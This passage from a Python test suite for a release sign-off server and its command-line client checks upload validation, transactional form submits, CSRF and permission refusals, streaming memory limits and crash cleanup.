                                 "-o", driver], capture_output=True, text=True, timeout=120)
            self.assertEqual(cc.returncode, 0, cc.stderr)
        return [driver]

    def test_11_holdctl_upload(self):
        acts = self.start()
        act = acts["signoff"]
        cmd = self.holdctl_upload_command()
        env = dict(self.server.env, HOLDPOINT_URL=self.server.url("/"), HOLDPOINT_TOKEN=self.server.demo_token())
        pdf_path = os.path.join(self.tmp, "pipeline-report.pdf")
        with open(pdf_path, "wb") as f:
            f.write(make_pdf("holdctl"))
        r = subprocess.run(cmd + [str(act), "report", pdf_path], env=env, capture_output=True, text=True, timeout=60)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("uploaded pipeline-report.pdf (application/pdf", r.stdout)
        self.assertEqual(self.evidence_row(self.newest_evidence())[6], "pipeline-report.pdf")
        bad = os.path.join(self.tmp, "tool.pdf")
        shutil.copy("/bin/true", bad)
        r = subprocess.run(cmd + [str(act), "report", bad], env=env, capture_output=True, text=True, timeout=60)
        self.assertEqual(r.returncode, 1)
        self.assertIn("refused (415)", r.stderr)
        self.assertIn("not allowed", r.stderr)
        r = subprocess.run(cmd + [str(act), "report", os.path.join(self.tmp, "missing.pdf")], env=env,
                           capture_output=True, text=True, timeout=60)
        self.assertEqual(r.returncode, 3)
        r = subprocess.run(cmd + ["signoff", "report", pdf_path], env=env, capture_output=True, text=True, timeout=60)
        self.assertEqual(r.returncode, 3)
        env_bad = dict(env, HOLDPOINT_URL="http://127.0.0.1:%d" % harness.free_port())
        r = subprocess.run(cmd + [str(act), "report", pdf_path], env=env_bad, capture_output=True, text=True, timeout=60)
        self.assertEqual(r.returncode, 3)

    def test_17_pipelines_fill_fields_through_the_api_and_holdctl(self):
        acts = self.start()
        act = acts["signoff"]
        bob_token = self.server.cli("token", "create", "--user", "bob", "--name", "inputs").stdout.strip()
        bob = self.server.client(token=bob_token)
        path = "/api/v1/activities/%d/inputs" % act
        # every refusal says which field and why, and saves nothing
        r = bob.request("POST", path, json_body={"values": {"ticket": "rel-1", "coverage": 140, "nosuch": "x",
                                                            "report": "a.pdf", "risk": ["low"]}})
        self.assertEqual(r.status, 422, r.text)
        fields = r.json()["error"]["fields"]
        self.assertEqual(set(fields), {"ticket", "coverage", "nosuch", "report", "risk"})
        self.assertIn("upload the file", fields["report"])
        self.assertEqual(self.server.sql("SELECT count(*) FROM inputs WHERE activity_id=?", act)[0][0], 0)
        self.assertEqual(bob.request("POST", path, json_body={"values": {}}).status, 422)
        self.assertEqual(bob.request("POST", path, body=b"{", headers={"Content-Type": "application/json"}).status, 400)
        # the auditor may read but not fill; an unknown activity is 404
        erin = self.server.client(token=self.server.cli("token", "create", "--user", "erin", "--name", "i").stdout.strip())
        self.assertEqual(erin.request("POST", path, json_body={"values": {"ticket": "REL-1"}}).status, 403)
        self.assertEqual(bob.request("POST", "/api/v1/activities/999999/inputs", json_body={"values": {"a": "b"}}).status, 404)
        # JSON types become the field's text: numbers as written, true is a ticked box
        r = bob.request("POST", path, json_body={"values": {"ticket": "REL-42", "coverage": 97.5, "passed": True}})
        self.assertEqual(r.status, 200, r.text)
        self.assertEqual(r.json()["values"], {"ticket": "REL-42", "coverage": "97.5", "passed": "on"})
        # holdctl input, then the upload, then the approval: a pipeline completes a sign-off with required fields
        env = dict(self.server.env, HOLDPOINT_URL=self.server.url("/"), HOLDPOINT_TOKEN=bob_token)
        run = lambda *a: subprocess.run([harness.HOLDCTL] + list(a), env=env, capture_output=True, text=True, timeout=60)
        r = run("input", str(act), "risk=extreme")
        self.assertEqual(r.returncode, 1)
        self.assertIn("risk: ", r.stderr)
        r = run("input", str(act), "risk=low", "notes=from the pipeline")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("2 values saved", r.stdout)
        r = run("input", str(act), "risk")
        self.assertEqual(r.returncode, 3)
        r = run("approve", str(act), "--comment", "green")
        self.assertEqual(r.returncode, 1)                      # the report file is still missing
        self.assertIn("Test report", r.stderr)
        pdf = os.path.join(self.tmp, "ci.pdf")
        with open(pdf, "wb") as f:
            f.write(make_pdf("ci"))
        self.assertEqual(run("upload", str(act), "report", pdf).returncode, 0)
        r = run("approve", str(act), "--comment", "green")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(self.server.sql("SELECT status FROM activities WHERE id=?", act)[0][0], "completed")
        # instructions come back as people read them, with the template's text beside them
        acts = self.start("delivery")
        j = self.api.get("/api/v1/activities/%d" % acts["qa-signoff"]).json()
        self.assertNotIn("{{", j["instructions"])
        self.assertIn("{{", j["instructions_template"])

    # ------------------------------------------------------------ streaming, memory, crashes

    # ------------------------------------------------------------ the one form: fields, files, decision

    def submit(self, client, act, fields, files=(), decision="approve", csrf=True, extra=()):
        """POST /activities/{id}/submit as the page's form sends it: csrf first, then values, then files."""
        parts = [("csrf", None, client.csrf.encode())] if csrf else []
        parts.append(("inputs_form", None, b"1"))
        parts += [("f_" + k, None, v.encode()) for k, v in fields.items()]
        parts += [(n, None, v.encode()) for n, v in extra]
        parts += [("f_" + k, name, data) for k, name, data in files]
        parts.append(("decision", None, decision.encode()))
        body, ctype = multipart(parts)
        return client.request("POST", "/activities/%d/submit" % act, body=body, headers={"Content-Type": ctype})

    def recorded(self, act):
        """What the form writes: (inputs rows, evidence rows, decisions rows, status)."""
        q = lambda sql: self.server.sql(sql, act)[0][0]
        return (q("SELECT count(*) FROM inputs WHERE activity_id=?"), q("SELECT count(*) FROM evidence WHERE activity_id=?"),
                q("SELECT count(*) FROM decisions WHERE activity_id=?"), q("SELECT status FROM activities WHERE id=?"))

    GOOD = {"ticket": "REL-42", "notes": "line one", "coverage": "97.5", "passed": "on", "risk": "low"}

    def test_13_one_form_records_fields_files_and_decision_together_or_nothing(self):
        bob = self.login("bob")
        # a refused file: nothing at all is recorded, the typed values come back, the file is named
        act = self.start()["signoff"]
        bob.get("/activities/%d" % act)
        before = self.snapshot()
        nref = self.audit_count("evidence.refused")
        r = self.submit(bob, act, self.GOOD, [("report", "report.pdf", elf_binary())], extra=[("comment", "ok <b>")])
        self.assertEqual(r.status, 415, r.text[:300])
        errs = page_errors(r.text)
        self.assertIn("report.pdf is a Linux program", errs["f_report"])
        self.assertIn("Nothing was recorded", errs["act"])
        self.assertIn('value="REL-42"', r.text)
        self.assertIn("ok &lt;b&gt;</textarea>", r.text)
        self.assertEqual(self.recorded(act), (0, 0, 0, "on_hold"))
        self.assert_nothing_left(before)
        self.assertEqual(self.audit_count("evidence.refused"), nref + 1)
        # approving needs the required fields; the messages stand next to them
        r = self.submit(bob, act, {"notes": "x"}, [("report", "r.pdf", make_pdf())])
        self.assertEqual(r.status, 422)
        errs = page_errors(r.text)
        for k in ("f_ticket", "f_coverage", "f_passed", "f_risk"):
            self.assertIn(k, errs)
        self.assertEqual(self.recorded(act), (0, 0, 0, "on_hold"))
        self.assert_nothing_left(before)
        # everything at once: two files, five fields and the approval in one submit
        r = self.submit(bob, act, self.GOOD, [("report", "report.pdf", make_pdf("one form")), ("screens", "s.png", make_png())])
        self.assertEqual(r.status, 303, r.text[:300])
        self.assertEqual(self.recorded(act), (5, 2, 1, "completed"))
        self.assertEqual(dict(self.server.sql("SELECT field_key, value FROM inputs WHERE activity_id=?", act)), self.GOOD)
        page = bob.get("/activities/%d" % act).text
        self.assertIn("Your approval is recorded with 2 files", page)

    def test_14_one_form_rolls_back_files_and_fields_when_the_decision_is_refused(self):
        # alice (release manager) may fill the form but is not an approver of the qa team's sign-off
        act = self.start()["signoff"]
        alice = self.login("alice")
        alice.get("/activities/%d" % act)
        before = self.snapshot()
        r = self.submit(alice, act, self.GOOD, [("report", "unique.pdf", make_pdf("only alice has this"))])
        self.assertEqual(r.status, 403, r.text[:300])
        self.assertIn("act", page_errors(r.text))
        self.assertEqual(self.recorded(act), (0, 0, 0, "on_hold"))
        self.assert_nothing_left(before)           # the stored file went with the transaction
        self.assertEqual(self.server.sql("SELECT count(*) FROM audit_log WHERE action IN ('evidence.upload','input.save')"
                                         " AND object_id=?", act)[0][0], 0)
        # she may still save the form without deciding
        r = self.submit(alice, act, {"ticket": "REL-7"}, [("report", "unique.pdf", make_pdf("only alice has this"))],
                        decision="save")
        self.assertEqual(r.status, 303, r.text[:300])
        self.assertEqual(self.recorded(act)[1:], (1, 0, "on_hold"))
        self.assertEqual(self.server.sql("SELECT count(*) FROM audit_log WHERE action IN ('evidence.upload','input.save')"
                                         " AND object_id=?", act)[0][0], 2)
        self.assertEqual(self.server.sql("SELECT value FROM inputs WHERE activity_id=? AND field_key='ticket'", act), [("REL-7",)])

    def test_15_one_form_reject_needs_a_comment_not_the_fields(self):
        act = self.start()["signoff"]
        bob = self.login("bob")
        bob.get("/activities/%d" % act)
        r = self.submit(bob, act, {}, decision="reject")
        self.assertEqual(r.status, 422)
        self.assertIn("comment", page_errors(r.text))
        self.assertEqual(self.recorded(act), (0, 0, 0, "on_hold"))
        r = self.submit(bob, act, {"ticket": "bad"}, decision="reject", extra=[("comment", "broken")])
        self.assertEqual(r.status, 422)                    # what is typed must still be valid
        self.assertIn("f_ticket", page_errors(r.text))
        r = self.submit(bob, act, {}, decision="reject", extra=[("comment", "Crashes on start")])
        self.assertEqual(r.status, 303, r.text[:300])
        self.assertEqual(self.recorded(act)[2:], (1, "rejected"))

    def test_16_one_form_refuses_forged_and_malformed_submits(self):
        act = self.start()["signoff"]
        bob = self.login("bob")
        bob.get("/activities/%d" % act)
        before = self.snapshot()
        r = self.submit(bob, act, self.GOOD, [("report", "r.pdf", make_pdf())], csrf=False)
        self.assertEqual(r.status, 403)
        r = self.submit(bob, act, self.GOOD, [("nosuch", "r.pdf", make_pdf())])
        self.assertEqual(r.status, 422)
        self.assertIn("no file field", r.text)
        r = self.submit(bob, act, self.GOOD, decision="launch")
        self.assertEqual(r.status, 422)
        body, ctype = multipart([("csrf", None, bob.csrf.encode()), ("decision", None, b"approve")])
        r = bob.request("POST", "/activities/%d/submit" % act, body=body[:-8], headers={"Content-Type": ctype})
        self.assertEqual(r.status, 400)
        self.assertEqual(self.recorded(act), (0, 0, 0, "on_hold"))
        self.assert_nothing_left(before)
        # erin (auditor) may not act: the form is refused and nothing is stored
        erin = self.login("erin")
        erin.get("/activities/%d" % act)
        r = self.submit(erin, act, self.GOOD, [("report", "r.pdf", make_pdf())])
        self.assertEqual(r.status, 403)
        self.assertEqual(self.recorded(act), (0, 0, 0, "on_hold"))
        self.assert_nothing_left(before)

    def test_12_200mb_upload_streams_with_flat_worker_memory(self):
        acts = self.start()
        act = acts["signoff"]
        path = os.path.join(self.tmp, "full.log")
        line = b"2026-11-21T05:00:00Z test-runner: case %08d passed in 12 ms\n"
        h = hashlib.sha256()
        size = 0
        with open(path, "wb") as f:
            i = 0
            while size < 200 * MB:
                chunk = b"".join(line % (i + k) for k in range(10000))
                i += 10000
                f.write(chunk)
                h.update(chunk)
                size += len(chunk)
        sha = h.hexdigest()
        boundary = "bigB0undary"
        head = ("--%s\r\nContent-Disposition: form-data; name=\"field\"\r\n\r\nbig\r\n"
                "--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"full.log\"\r\n"
                "Content-Type: text/plain\r\n\r\n" % (boundary, boundary)).encode()
        tail = ("\r\n--%s--\r\n" % boundary).encode()

        def body():
            yield head
            with open(path, "rb") as f:
                while True:
                    b = f.read(MB)
                    if not b:
                        break
                    yield b
            yield tail

        _master, kids = self.server.pids()
        rss = {pid: vm_kb(pid, "VmRSS:") for pid in kids}
        result = {}

        def send():
            conn = http.client.HTTPConnection("127.0.0.1", self.server.port, timeout=600)
            try:
                conn.request("POST", "/api/v1/activities/%d/evidence" % act, body=body(), headers={
                    "Authorization": "Bearer " + self.server.demo_token(),
                    "Content-Type": "multipart/form-data; boundary=" + boundary,
                    "Content-Length": str(len(head) + size + len(tail))})
                resp = conn.getresponse()
                result["status"], result["body"] = resp.status, resp.read()
            except Exception as e:     # reported by the assertions below
                result["error"] = e
            finally:
                conn.close()

        t = threading.Thread(target=send)
        t.start()
        tmpdir = os.path.join(self.server.data, "tmp")

        def handling_worker():
            for pid in kids:
                try:
                    for fd in os.listdir("/proc/%d/fd" % pid):
                        if os.readlink("/proc/%d/fd/%s" % (pid, fd)).startswith(tmpdir + "/up-"):
                            return pid
                except OSError:
                    pass
            return None

        worker = poll(lambda: handling_worker() or (None if t.is_alive() else -1), timeout=600, interval=0.02,
                      what="a worker streaming the upload")
        self.assertGreater(worker, 0, "no worker was seen writing the upload")
        rss_before = rss[worker]
        # While it streams, the worker's resident memory stays where it was (sampled), and
        # its peak (VmHWM, which the kernel keeps) stays small.
        rss_max = 0
        while t.is_alive():
            try:
                rss_max = max(rss_max, vm_kb(worker, "VmRSS:"))
            except (OSError, AssertionError):
                break
            t.join(0.02)
        t.join(600)
        self.assertNotIn("error", result)
        self.assertEqual(result.get("status"), 201, result.get("body", b"")[:300])
        peak = vm_kb(worker, "VmHWM:")
        # Under AddressSanitizer (make check-asan) freed memory stays resident in its
        # quarantine, so the bound only means something in a normal build.
        with open("/proc/%d/maps" % worker) as f:
            sanitized = "libasan" in f.read()
        if not sanitized:
            self.assertLess(rss_max, rss_before + 16 * 1024,
                            "worker %d grew from %d kB to %d kB" % (worker, rss_before, rss_max))
            self.assertLess(peak, 64 * 1024, "worker %d peak RSS %d kB" % (worker, peak))
            for pid in kids:
                if os.path.exists("/proc/%d" % pid):
                    self.assertLess(vm_kb(pid, "VmHWM:"), 64 * 1024)
        ev_id = self.newest_evidence()
        row = self.evidence_row(ev_id)
        self.assertEqual((row[2], row[3], row[4], row[5]), ("big", sha, size, "text/plain"))
        # the download streams through nginx and hashes to the stored SHA-256
        bob = self.login("bob")
        conn = http.client.HTTPConnection("127.0.0.1", self.server.port, timeout=600)
        try:
            conn.request("GET", "/evidence/%d" % ev_id,
                         headers={"Cookie": "; ".join("%s=%s" % kv for kv in bob.cookies.items())})
            resp = conn.getresponse()
            self.assertEqual(resp.status, 200)
            self.assertEqual(resp.getheader("Content-Type"), "text/plain")
            self.assertEqual(resp.getheader("Content-Disposition"),
                             "attachment; filename=\"full.log\"; filename*=UTF-8''full.log")
            self.assertIn("sandbox", resp.getheader("Content-Security-Policy"))
            h2 = hashlib.sha256()
            while True:
                b = resp.read(MB)
                if not b:
                    break
                h2.update(b)
        finally:
            conn.close()
        self.assertEqual(h2.hexdigest(), sha)
        os.unlink(path)
        self.assertEqual(os.listdir(tmpdir), [])

    def test_98_who_may_see_a_releases_evidence(self):
        """Evidence is for the release's people, release managers, auditors and admins (mayact_sees_evidence)."""
        acts = self.start("delivery")
        act = acts["qa-signoff"]
        bob = self.login("bob")
        bob.get("/activities/%d" % act)
        r = self.upload(bob, act, "report", "secret-report.pdf", make_pdf())
        self.assertEqual(r.status, 303, r.text[:300])
        ev = self.newest_evidence()
        for name, teams in (("mallory", ()), ("dora", ("dba",))):
            if not self.server.sql("SELECT 1 FROM users WHERE username=?", name):
                args = ["user", "add", name, "--email", name + "@example.com", "--display-name", name.title(),
                        "--role", "approver"]
                for t in teams:
                    args += ["--team", t]
                self.server.cli(*args, stdin=harness.PASSWORD + "\n")
        # who: the uploader (QA, eligible), a release manager, an auditor, an admin, members of the
        # teams the release names (sre and product approve production, dba holds the migration
        # task: carol, dave, dora), even before their step opens; not an approver outside them
        expect = {"bob": 200, "alice": 200, "erin": 200, "admin": 200, "carol": 200, "dave": 200, "dora": 200,
                  "mallory": 403}
        for who, status in expect.items():
            with self.subTest(who=who):
                c = self.login(who)
                r = c.get("/evidence/%d" % ev)
                self.assertEqual(r.status, status, r.text[:300])
                page = c.get("/activities/%d" % act).text
                rel = self.server.sql("SELECT release_id FROM activities WHERE id=?", act)[0][0]
                if status == 200:
                    self.assertEqual(r.body[:5], b"%PDF-")
                    self.assertIn('href="/evidence/%d"' % ev, page)
                    # the release's timeline names the file to those who may open it
                    self.assertIn("uploaded “secret-report.pdf” to qa-signoff", c.get("/releases/%d" % rel).text)
                else:
                    self.assertIn("may see its evidence", r.text)
                    self.assertNotIn('href="/evidence/%d"' % ev, page)
                    self.assertNotIn("secret-report.pdf", page)
                    self.assertIn("1 file(s) uploaded", page)
                    self.assertIn("uploaded a file to qa-signoff", page)          # the history, nameless
                    self.assertNotIn("secret-report.pdf", c.get("/releases/%d" % rel).text)
                    self.assertIn("uploaded a file to qa-signoff", c.get("/releases/%d" % rel).text)
        # the API asks the same owner
        token = self.server.cli("token", "create", "--user", "mallory", "--name", "t").stdout.strip()
        api = self.server.client(token=token)
        r = api.get("/api/v1/evidence/%d" % ev)
        self.assertEqual(r.status, 403)
        self.assertIn("may see its evidence", r.json()["error"]["message"])
        self.assertEqual(api.get("/api/v1/activities/%d/evidence" % act).status, 403)
        j = api.get("/api/v1/activities/%d" % act).json()
        self.assertEqual(j["evidence"], [])
        self.assertEqual(j["evidence_hidden"]["count"], 1)
        self.assertEqual(len(self.api.get("/api/v1/activities/%d" % act).json()["evidence"]), 1)   # alice
        self.assertEqual(self.api.get("/api/v1/evidence/%d" % ev).status, 200)
        denied = self.server.sql("SELECT actor_name, details_json FROM audit_log WHERE action='access.denied'"
                                 " AND object_type='evidence' AND object_id=? ORDER BY seq", ev)
        self.assertEqual({d[0] for d in denied}, {"mallory"})
        self.assertEqual(self.server.sql("SELECT count(*) FROM audit_log WHERE action='evidence.download'"
                                         " AND object_id=? AND actor_name='mallory'", ev)[0][0], 0)

    def test_99_killed_worker_leaves_no_row_and_the_master_removes_its_temp_file(self):
        acts = self.start()
        act = acts["signoff"]
        before = self.snapshot()
        # nginx spools a whole body before it calls a worker, so the half-sent upload goes
        # straight to the FastCGI socket: the worker is then really in the middle of it.
        boundary = "killB0undary"
        head = ("--%s\r\nContent-Disposition: form-data; name=\"field\"\r\n\r\nbig\r\n"
                "--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"half.log\"\r\n\r\n"
                % (boundary, boundary)).encode()
        total = len(head) + 4 * MB + len(b"\r\n--%s--\r\n" % boundary.encode())
        params = {"REQUEST_METHOD": "POST", "DOCUMENT_URI": "/api/v1/activities/%d/evidence" % act,
                  "REQUEST_URI": "/api/v1/activities/%d/evidence" % act, "QUERY_STRING": "",
                  "CONTENT_TYPE": "multipart/form-data; boundary=" + boundary, "CONTENT_LENGTH": str(total),
                  "HTTP_AUTHORIZATION": "Bearer " + self.server.demo_token(), "REMOTE_ADDR": "127.0.0.1",
                  "HTTP_HOST": "127.0.0.1", "REQUEST_ID": "kill-test"}
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.connect(os.path.join(self.server.data, "run", "holdpoint.sock"))
        try:
            sock.sendall(fcgi_record(1, struct.pack(">HB5x", 1, 0)) + fcgi_record(4, fcgi_params(params))
                         + fcgi_record(4, b""))
            half = head + b"h" * (2 * MB)
            for i in range(0, len(half), 32768):
                sock.sendall(fcgi_record(5, half[i:i + 32768]))
            tmpdir = os.path.join(self.server.data, "tmp")

            def temp_file():
                for f in os.listdir(tmpdir):
                    if f.startswith("up-") and os.stat(os.path.join(tmpdir, f)).st_size >= MB:
                        return f
                return None
            orphan = poll(temp_file, timeout=30, what="the worker writing the temp file")
            _master, old = self.server.pids()
            for pid in old:
                os.kill(pid, signal.SIGKILL)

            def respawned():
                return self.server.all_children_up() and not set(old) & set(self.server.pids()[1])
            poll(respawned, timeout=30, what="the workers to be respawned")
        finally:
            sock.close()
        poll(lambda: self.client().get("/healthz").status == 200, what="healthz after the crash")
        self.assertEqual(self.server.sql("SELECT count(*) FROM evidence")[0][0], before[2])
        self.assertEqual(self.snapshot()[0], before[0])
        # the master removed the dead worker's unfinished upload when it reaped it: no restart needed
        poll(lambda: orphan not in os.listdir(tmpdir), timeout=30, what="the master to sweep the dead worker's file")
        self.assertRegex(self.server.read_log(), r"removed 1 temporary file\(s\) of worker %s" % orphan.split("-")[1])
        self.assertEqual(self.snapshot()[0], before[0])
        self.assertEqual(self.server.sql("SELECT count(*) FROM evidence")[0][0], before[2])
        # and the startup sweep still clears anything older (a crash of the master itself)
        with open(os.path.join(tmpdir, "up-1-leftover"), "wb") as f:
            f.write(b"x" * 1024)
        self.server.start()
        self.assertEqual(os.listdir(tmpdir), [])
        self.assertIn("startup sweep removed", self.server.read_log())

if __name__ == "__main__":
    unittest.main()
